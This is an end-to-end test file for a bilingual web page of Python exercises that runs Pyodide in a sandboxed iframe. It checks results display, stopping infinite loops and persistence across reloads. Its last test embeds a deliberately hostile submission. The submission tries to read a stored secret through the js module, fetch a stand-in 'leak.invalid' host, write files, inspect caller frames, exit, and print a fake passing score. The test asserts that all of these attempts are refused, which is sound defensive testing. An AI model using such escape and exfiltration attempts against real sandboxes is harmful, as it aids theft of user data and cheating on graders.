/**
 * The exercises in Python, in Chromium on the built site: the TypeScript | Python switch, Pyodide in the opaque-origin
 * sandbox iframe, per-test results with expected vs received, a loop stopped while the page keeps answering, a hostile
 * submission that learns and sends nothing, the code back after a reload; French and English; screenshots.
 */
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { seriousAxeViolations, type Watched } from './browser';
import { vi } from 'vitest';
import { it } from './fixtures';
import { POLL_MS, setExerciseCode, shot } from './page';
import { snapshotStored } from './snapshots';
import { EXERCISE_PAGE, testSummary } from './exercisePage';

const root = resolve(import.meta.dirname, '../..');
const exerciseFile = (slug: string, name: string) =>
  readFileSync(resolve(root, 'exercises', slug, 'python', name), 'utf8');

// Pyodide starts in the sandbox on the first run (13.5 MB from the site, then CPU-bound): generous on a loaded machine.
// The tests share one browser context (`share`): each has its own page and empty Web Storage, but the first test's
// download and Pyodide memory snapshot serve the next ones (the snapshot itself is python-snapshot.e2e.ts's subject).
const FIRST_RUN_MS = 280_000;

const T = {
  en: {
    ...EXERCISE_PAGE.en,
    stop: 'Stop',
    running: 'Running…',
    hint: 'Show hint',
  },
  fr: {
    ...EXERCISE_PAGE.fr,
    stop: 'Arrêter',
    running: 'Exécution…',
    hint: 'Afficher un indice',
  },
} as const;
type Lang = keyof typeof T;

async function openPython(w: Watched, slug: string, lang: Lang): Promise<void> {
  await w.page.goto(w.url(`#/${lang}/exercises/${slug}`));
  await w.page.locator('.monaco-editor .view-lines').first().waitFor({ timeout: 30_000 });
  await w.page.getByRole('group', { name: T[lang].language }).getByRole('radio', { name: 'Python' }).check();
  // The Python editor: its starter is the seed's stub.
  await w.page.waitForFunction(
    () => document.querySelector('.monaco-editor')?.closest('.code-editor') !== null,
    null,
    { polling: POLL_MS },
  );
  await w.page.locator('.monaco-editor .view-lines').first().waitFor({ timeout: 30_000 });
}

async function runAndWait(page: Page, lang: Lang, pattern: RegExp, timeout = FIRST_RUN_MS): Promise<string> {
  await page.getByRole('button', { name: T[lang].run }).click();
  await testSummary(page, lang).filter({ hasText: pattern }).waitFor({ timeout });
  return (await testSummary(page, lang).textContent()) ?? '';
}

vi.setConfig({ testTimeout: 600_000 });

const SUMMARY = { en: /\d+ passed, \d+ failed/, fr: /\d+ réussis?, \d+ échoués?/ };

describe('Python exercises in Chromium', () => {
  for (const lang of ['en', 'fr'] as const) {
    it(`${lang}: solves exercise 1 in Python, shows expected vs received for a wrong one, keeps the code after a reload`, async ({
      lab,
    }) => {
      const w = await lab.open(null, { colorScheme: lang === 'fr' ? 'light' : 'dark', share: true });
      await openPython(w, '01-marginal-cost', lang);
      // The starter runs and fails cleanly: every test listed, none passing.
      const coldStart = Date.now();
      const first = await runAndWait(w.page, lang, SUMMARY[lang]);
      const coldMs = Date.now() - coldStart;
      expect(first).toMatch(lang === 'en' ? /^0 passed, 12 failed/ : /^0 réussi, 12 échoués/);
      await shot(w.page, `python-starter-${lang}-${lang === 'fr' ? 'light' : 'dark'}`);

      // A wrong answer: the first test shows what was expected and what came back.
      await setExerciseCode(
        w.page,
        'def cout_marginal(window_size, n_turns, msg_len):\n    return (window_size * n_turns * msg_len, 1, 29)\n',
      );
      await runAndWait(w.page, lang, SUMMARY[lang], 30_000);
      const item = w.page.locator('.test-item').first();
      expect(await item.locator('.test-item__status').textContent()).toBe(
        lang === 'en' ? 'failed' : 'échoué',
      );
      expect(await item.locator('dd').allTextContents()).toEqual(['114600', '120000']);
      expect(await item.locator('.test-item__name').textContent()).toMatch(
        lang === 'en' ? /^cout_fenetre: a window of 10/ : /^cout_fenetre : une fenêtre de 10/,
      );

      // An exception in the student's code: the line link points into it.
      await setExerciseCode(
        w.page,
        'def cout_marginal(window_size, n_turns, msg_len):\n    x = 1\n    return x / 0\n',
      );
      await runAndWait(w.page, lang, SUMMARY[lang], 30_000);
      expect(await w.page.locator('.test-item').first().textContent()).toContain('ZeroDivisionError');
      await w.page
        .locator('.test-item')
        .first()
        .getByRole('button', { name: lang === 'en' ? 'Go to line 3' : 'Aller à la ligne 3' })
        .waitFor();

      // The reference solution passes; Ctrl+Enter runs the tests.
      await setExerciseCode(w.page, exerciseFile('01-marginal-cost', 'solution.py'));
      const warmStart = Date.now();
      await w.page.keyboard.press('ControlOrMeta+Enter');
      await testSummary(w.page, lang)
        .filter({ hasText: lang === 'en' ? '12 passed, 0 failed' : '12 réussis, 0 échoué' })
        .waitFor({ timeout: 30_000 });
      // A figure, not an assertion (the machine's load decides it): printed for the report.
      console.info(
        `[python-exercises] ${lang}: first run (Pyodide started in this page) ${coldMs} ms, warm run ${Date.now() - warmStart} ms (click to results)`,
      );
      await shot(w.page, `python-solved-${lang}-${lang === 'fr' ? 'light' : 'dark'}`);
      expect(await seriousAxeViolations(w.page)).toEqual([]);

      // The sandbox's memory snapshot is stored (made in the background after the file's first start, which a reload
      // would end; restored in the next tests): the next tests restore it instead of each starting afresh.
      await snapshotStored(w.page, 'exercise', FIRST_RUN_MS);

      // After a reload: Python is still the language, the code and the results are back.
      await w.page.reload();
      await w.page.locator('.monaco-editor .view-lines').first().waitFor({ timeout: 30_000 });
      expect(await w.page.getByRole('radio', { name: 'Python' }).isChecked()).toBe(true);
      await expect
        .poll(async () =>
          (await w.page.locator('.monaco-editor .view-lines').first().textContent())?.replace(/\u00a0/g, ' '),
        )
        .toContain('def _require_int');
      expect(await testSummary(w.page, lang).textContent()).toContain(
        lang === 'en' ? '12 passed, 0 failed' : '12 réussis, 0 échoué',
      );
      // TypeScript keeps its own code: switching back shows the TypeScript starter.
      await w.page.getByRole('radio', { name: 'TypeScript' }).check();
      await expect
        .poll(async () =>
          (await w.page.locator('.monaco-editor .view-lines').first().textContent())?.replace(/\u00a0/g, ' '),
        )
        .toContain('export function marginalCost');
      // The list shows the state per language.
      await w.page.goto(w.url(`#/${lang}/exercises`));
      const card = w.page.locator('.exercise-card').first();
      expect(await card.locator('[data-language="python"]').textContent()).toContain(
        lang === 'en' ? 'Python: Passed' : 'Python\u00a0: Réussi',
      );
      expect(await card.locator('[data-language="typescript"]').textContent()).toContain('TypeScript');
      await shot(w.page, `python-list-${lang}-${lang === 'fr' ? 'light' : 'dark'}`);
    });
  }

  it('stops `while True: pass` (Stop button and time limit) while the page keeps answering', async ({
    lab,
  }) => {
    const w = await lab.open(null, { share: true });
    await openPython(w, '03-multi-domain-paging', 'en');
    await runAndWait(w.page, 'en', SUMMARY.en); // Pyodide started
    await setExerciseCode(w.page, 'while True:\n    pass\n');
    await w.page.getByRole('button', { name: 'Run tests' }).click();
    await w.page.getByRole('button', { name: 'Running…' }).waitFor();
    // The page answers during the loop: a hint opens while the run is still running (state, not a stopwatch).
    await w.page.getByRole('button', { name: 'Show hint' }).click();
    await w.page.getByText('Hint 1.').waitFor();
    expect(await w.page.getByRole('button', { name: 'Running…' }).isVisible()).toBe(true);
    await w.page.getByRole('button', { name: 'Stop' }).click();
    await testSummary(w.page, 'en').filter({ hasText: 'The run was stopped.' }).waitFor({ timeout: 15_000 });
    // Again, left to the time limit.
    await w.page.getByRole('button', { name: 'Run tests' }).click();
    await testSummary(w.page, 'en')
      .filter({ hasText: /Stopped after 10 s/ })
      .waitFor({ timeout: FIRST_RUN_MS });
    // A fresh sandbox answers the next run.
    await setExerciseCode(w.page, exerciseFile('03-multi-domain-paging', 'solution.py'));
    expect(await runAndWait(w.page, 'en', /8 passed, 0 failed/)).toContain('8 passed, 0 failed');
  });

  it('a hostile submission learns nothing and sends nothing: no storage, no js, no network, no fake score', async ({
    lab,
  }) => {
    const w = await lab.open(null, { share: true });
    lab.allowConsoleErrors(/Content Security Policy|Refused to/);
    const requests: string[] = [];
    w.context.on('request', (r) => requests.push(r.url()));
    await w.page.goto(w.url('#/en'));
    await w.page.evaluate(() => localStorage.setItem('aml.secret', 'top-secret-7f3a'));
    await openPython(w, '01-marginal-cost', 'en');
    const attack = [
      'found = []',
      'def attempt(label, fn):',
      '    try:',
      '        found.append((label, repr(fn())[:80]))',
      '    except BaseException as e:',
      '        found.append((label, "refused: " + type(e).__name__))',
      'attempt("js", lambda: __import__("js").localStorage.getItem("aml.secret"))',
      'attempt("pyodide.http", lambda: __import__("pyodide.http").http.pyfetch("http://leak.invalid/"))',
      'attempt("pyodide.ffi", lambda: __import__("pyodide.ffi"))',
      'attempt("open", lambda: open("/home/pyodide/x", "w"))',
      'attempt("frames", lambda: __import__("sys")._getframe(1).f_globals)',
      'attempt("exit", lambda: __import__("os")._exit(0))',
      'print("12 passed, 0 failed")',
      'print(found)',
      'def cout_marginal(window_size, n_turns, msg_len):',
      '    raise SystemExit(0)',
    ].join('\n');
    await setExerciseCode(w.page, attack);
    const before = requests.length;
    const text = await runAndWait(w.page, 'en', SUMMARY.en);
    expect(text).toMatch(/^0 passed, 12 failed/);
    const output = (await w.page.locator('.test-logs pre').first().textContent()) ?? '';
    for (const label of ['js', 'pyodide.http', 'pyodide.ffi', 'open', 'frames', 'exit']) {
      expect(output).toMatch(new RegExp(`'${label.replace('.', '\\.')}', 'refused: `));
    }
    expect(output).not.toContain('top-secret');
    // Pyodide's files come from the lab; nothing else was requested while the attack ran.
    // (The editor's icon font may load lazily meanwhile: the page's own font, not a request of the sandbox.)
    const during = requests
      .slice(before)
      .filter((u) => !/^blob:|\/pyodide\/|python-sandbox\.html$|\/assets\/codicon-[\w-]+\.ttf$/.test(u));
    expect(during).toEqual([]);
    expect(w.foreignRequests).toEqual([]);
  });
});
